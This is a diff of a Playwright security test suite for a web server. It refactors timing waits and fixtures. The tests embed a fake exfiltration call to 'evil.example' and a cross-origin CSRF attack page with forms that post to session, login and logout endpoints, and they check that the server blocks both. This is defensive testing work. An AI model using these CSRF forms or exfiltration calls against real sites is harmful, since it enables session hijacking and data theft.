@@ -2,9 +2,7 @@
 
 from __future__ import annotations
 
-import os
 import re
-import shutil
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -15,31 +13,10 @@ import pytest
 from clew.server.access.shares import add_share, link
 from clew.server.access.tokens import add_token, remove_token
 from tests.server.conftest import TOKEN, Running
+from tests.support.waiting import until
 
 if TYPE_CHECKING:
     from playwright.sync_api import Browser, BrowserContext, Page
-
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-
-pytestmark = [
-    pytest.mark.skipif(
-        CHROMIUM is None and "CI" not in os.environ, reason="there is no Chromium: apt-get install chromium"
-    ),
-    pytest.mark.timeout(180),
-]
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    from playwright.sync_api import sync_playwright
-
-    names = "MAP rebound.example 127.0.0.1, MAP evil.example 127.0.0.1"
-    with sync_playwright() as playwright:
-        opened = playwright.chromium.launch(
-            executable_path=CHROMIUM, args=["--no-sandbox", f"--host-resolver-rules={names}"]
-        )
-        yield opened
-        opened.close()
 
 
 @pytest.fixture
@@ -160,16 +137,16 @@ def test_s16_no_script_can_read_the_cookie_or_a_secret(server: Running, context:
     assert TOKEN not in page.content()
 
 
-def test_s36_a_page_is_out_when_its_token_is_removed(server: Running, context: BrowserContext) -> None:
-    _, token = add_token(server.store, "ci")
+def test_s36_a_page_is_out_when_its_token_is_removed(timed: Running, context: BrowserContext) -> None:
+    _, token = add_token(timed.store, "ci")
     page = context.new_page()
-    page.goto(server.url)
+    page.goto(timed.url)
     page.wait_for_selector("#token")
     page.fill("#token", token)
     page.click("button[type=submit]")
     says(page, "signed in as ci")
-    remove_token(server.store, "ci")
-    page.wait_for_timeout(1200)
+    remove_token(timed.store, "ci")
+    timed.wait(1)
     page.reload()
     says(page, "not signed in")
 
@@ -195,7 +172,9 @@ def test_the_policy_of_the_page_lets_nothing_else_run(server: Running, context: 
             for (const one of tries) { try { one(); refused.push(false); } catch { refused.push(true); } }
             let left = true;
             try { await fetch('http://evil.example/?stolen'); } catch { left = false; }
-            await new Promise(resolve => setTimeout(resolve, 300));
+            // whatever of the tries runs later, these come behind it
+            await new Promise(end => { const one = new Image(); one.onerror = end; one.src = 'x'; });
+            await new Promise(end => setTimeout(end, 0));
             return [window.pwned, left, refused];
         }"""
     )
@@ -229,13 +208,14 @@ def test_a_share_link_shows_the_session_without_a_sign_in(server: Running, conte
 
 
 CSRF = """<!doctype html><title>evil</title>
-<form id="plain" method="post" action="{url}/api/v1/sessions" enctype="text/plain" target="sink">
+<form id="plain" method="post" action="{url}/api/v1/sessions" enctype="text/plain" target="a">
 <input name='{{"id":"planted-by-form","x":"' value='"}}'></form>
-<form id="coded" method="post" action="{url}/api/v1/sessions" target="sink"><input name="id" value="planted-coded"></form>
-<form id="login" method="post" action="{url}/api/v1/login" enctype="text/plain" target="sink">
+<form id="coded" method="post" action="{url}/api/v1/sessions" target="b"><input name="id" value="planted-coded"></form>
+<form id="login" method="post" action="{url}/api/v1/login" enctype="text/plain" target="c">
 <input name='{{"token":"{token}","x":"' value='"}}'></form>
-<form id="logout" method="post" action="{url}/api/v1/logout" target="sink"></form>
-<iframe name="sink"></iframe><iframe id="framed" src="{url}/"></iframe>
+<form id="logout" method="post" action="{url}/api/v1/logout" target="d"></form>
+<iframe name="a"></iframe><iframe name="b"></iframe><iframe name="c"></iframe><iframe name="d"></iframe>
+<iframe id="framed" src="{url}/"></iframe>
 <img id="image" src="{url}/api/v1/sessions"><script src="{url}/api/v1/sessions"></script>
 <link rel="stylesheet" href="{url}/api/v1/sessions"><script src="{url}/app.js"></script>
 <script>
@@ -260,10 +240,7 @@ window.attack = async () => {{
           told.push([name, answer && answer.type ? answer.type : String(answer), text]); }}
     catch {{ told.push([name, "refused", ""]); }}
   }}
-  for (const id of ["plain", "coded", "login", "logout"]) {{
-    document.getElementById(id).submit();
-    await new Promise(resolve => setTimeout(resolve, 150));
-  }}
+  for (const id of ["plain", "coded", "login", "logout"]) document.getElementById(id).submit();
   return told;
 }};
 </script>"""  # noqa: E501
@@ -288,8 +265,10 @@ def test_s15_a_page_of_another_origin_reads_and_changes_nothing(
     attacker.body = CSRF.format(url=server.url, token=TOKEN).encode()
     page = context.new_page()
     page.goto(f"http://{name}:{attacker.port}/")
+    posted: list[str] = []
+    server.app.on_finished.append(lambda done: posted.append(done.path) if done.method == "POST" else None)
     told = page.evaluate("window.attack()")
-    page.wait_for_timeout(300)
+    until(lambda: len(posted) == 6)  # of two calls and four forms; the others have to be asked for first
     assert [info.id for info in server.store.list()] == ["mine"]
     assert len(told) == 10
     assert not [one for one in told if "secret" in one[2]], told
